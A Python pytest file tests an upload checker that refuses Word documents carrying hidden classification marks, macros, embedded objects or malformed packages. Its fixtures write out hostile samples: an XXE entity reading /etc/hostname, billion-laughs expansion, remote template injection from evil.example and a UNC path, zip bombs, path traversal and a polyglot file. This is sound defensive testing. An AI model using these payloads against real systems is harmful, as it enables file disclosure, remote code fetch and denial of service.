"""Word documents: opened part by part; what is active, hidden or marked is refused."""

import io
import zipfile

import pytest

from anlan.kernel.evidence.refusal import UploadRefused
from anlan.kernel.evidence.upload import check_upload, discard

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def paragraph(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def body(inner):
    return f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>{inner}</w:body></w:document>'


def types(main=MAIN):
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    )


def docx(*, inner=None, extra=None, main=MAIN):
    """The bytes of a Word document; ``extra`` adds or replaces parts."""
    parts = {
        "[Content_Types].xml": types(main),
        "word/document.xml": body(inner or paragraph("研究了安全生产工作。")),
    }
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in {**parts, **(extra or {})}.items():
            package.writestr(name, content)
    return stream.getvalue()


def relations(kind, target, mode="External"):
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</Relationships>"
    )


def check(content, name="纪要.docx"):
    return check_upload(name=name, content=io.BytesIO(content), declared_type="", cleared=True, max_bytes=10_000_000)


def refusal(content, name="纪要.docx"):
    with pytest.raises(UploadRefused) as refused:
        check(content, name)
    assert "Nothing was stored" in str(refused.value.message)
    return refused.value.code


@pytest.mark.parametrize(
    "content",
    [
        docx(),
        docx(inner=paragraph("依法保守企业的商业秘密,加强内部管理。")),
        docx(extra={"word/media/image1.png": b"\x89PNG"}),
        docx(extra={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"}),
        docx(extra={"word/_rels/document.xml.rels": relations("hyperlink", "https://www.gov.cn/")}),
        docx(extra={"word/_rels/settings.xml.rels": relations("attachedTemplate", "file:///C:\\Users\\a\\b.dotx")}),
    ],
)
def test_an_ordinary_document_is_taken_and_unchanged(content):
    checked = check(content)
    assert checked.content.read() == content
    assert checked.size == len(content)
    discard(checked=checked)


HEADER = f"<w:hdr {W}>{paragraph('机密★1年')}</w:hdr>"
BOX = f"<w:txbxContent>{paragraph('秘密★5年')}</w:txbxContent>"
TEXT_BOX = f"<w:p><w:r><w:t>会议</w:t>{BOX}<w:t>纪要</w:t></w:r></w:p>"
PROPERTIES = "<p:coreProperties xmlns:p='urn:p'><p:keywords>内部资料</p:keywords></p:coreProperties>"
WATERMARK = f"<w:hdr {W}><w:p><v:textpath xmlns:v='urn:schemas-microsoft-com:vml' string='绝密'/></w:p></w:hdr>"
RUNS = "<w:p><w:r><w:t>机</w:t></w:r><w:r><w:t>密</w:t></w:r><w:r><w:t>★</w:t></w:r></w:p>"
DELETED = "<w:p><w:del><w:r><w:delText>机密★1年</w:delText></w:r></w:del><w:r><w:t>会议</w:t></w:r></w:p>"
CELL = f"<w:tbl><w:tr><w:tc>{paragraph('密级')}</w:tc><w:tc>{paragraph('秘密')}</w:tc></w:tr></w:tbl>"
BROKEN_LINE = "<w:p><w:r><w:t>机密</w:t><w:br/><w:t>会议纪要</w:t></w:r></w:p>"


@pytest.mark.parametrize(
    "content",
    [
        docx(inner=paragraph("机密★1年") + paragraph("会议纪要")),
        docx(inner=RUNS),
        docx(inner=TEXT_BOX),
        docx(inner=DELETED),
        docx(inner=CELL),
        docx(inner=BROKEN_LINE),
        docx(extra={"word/header1.xml": HEADER}),
        docx(extra={"word/footer1.xml": HEADER.replace("hdr", "ftr")}),
        docx(extra={"word/header2.xml": WATERMARK}),
        docx(extra={"docProps/core.xml": PROPERTIES}),
        docx(extra={"word/header1.xml": HEADER.encode("utf-16")}),
    ],
)
def test_22_a_mark_is_found_wherever_word_keeps_text(content):
    assert refusal(content) == "marked_text"


def with_entity(encoding):
    entity = f'<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/hostname">]><w:document {W}>&a;</w:document>'
    return docx(extra={"word/document.xml": f'<?xml version="1.0" encoding="{encoding}"?>{entity}'.encode(encoding)})


LAUGHS = "<!DOCTYPE d [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'>]><d>&b;</d>"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (docx(extra={"word/vbaProject.bin": b"x"}), "macros"),
        (docx(main=MACRO), "macros"),
        (docx(extra={"word/embeddings/oleObject1.bin": b"x"}), "embedded_files"),
        (docx(extra={"word/activeX/activeX1.bin": b"x"}), "embedded_files"),
        (
            docx(extra={"word/_rels/document.xml.rels": relations("aFChunk", "x.mht", "Internal")}),
            "embedded_files",
        ),
        (with_entity("utf-8"), "outside_content"),
        (with_entity("utf-16"), "outside_content"),
        (docx(extra={"word/styles.xml": LAUGHS}), "outside_content"),
        (
            docx(extra={"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/t.dotm")}),
            "outside_content",
        ),
        (
            docx(extra={"word/_rels/settings.xml.rels": relations("attachedTemplate", "\\\\10.0.0.1\\t.dotm")}),
            "outside_content",
        ),
        (docx(extra={"word/media/bomb.bmp": b"\0" * 30_000_000}), "too_complex"),
        (docx(extra={"word/bomb.xml": b" " * 33_000_000}), "too_complex"),
        (docx(extra={f"word/media/{number}.png": b"" for number in range(2_001)}), "too_complex"),
        (docx(inner="<w:p>" * 600 + "</w:p>" * 600), "too_complex"),
        (docx(inner="<w:p>"), "damaged"),
        (docx(extra={"word/../../evil.xml": "<a/>"}), "damaged"),
        (docx()[:-30], "damaged"),
        (docx(main="application/xml"), "disguised"),
        (b"MZ\x90\x00" + docx(), "disguised"),
        (docx() + docx(), "two_files_in_one"),
    ],
)
def test_a_document_that_is_more_than_a_document_is_refused(content, code):
    assert refusal(content) == code


def test_a_package_that_is_no_word_document_is_refused():
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as package:
        package.writestr("readme.txt", "x")
    assert refusal(stream.getvalue()) == "disguised"


def test_a_macro_document_under_its_own_ending_is_refused():
    assert refusal(docx(main=MACRO), name="纪要.docm") == "kind_not_accepted"


def test_two_parts_of_one_name_are_refused():
    stream = io.BytesIO(docx())
    with zipfile.ZipFile(stream, "a") as package:
        package.writestr("WORD/document.xml", body(paragraph("机密★1年")))
    assert refusal(stream.getvalue()) == "damaged"


def test_a_part_with_a_false_checksum_is_refused():
    content = docx(extra={"word/media/a.bin": b"Z" * 9})
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        entry = package.getinfo("word/media/a.bin")
    at = content.index(entry.CRC.to_bytes(4, "little"), content.index(b"PK\x01\x02"))
    assert refusal(content[:at] + b"\0\0\0\0" + content[at + 4 :]) == "damaged"
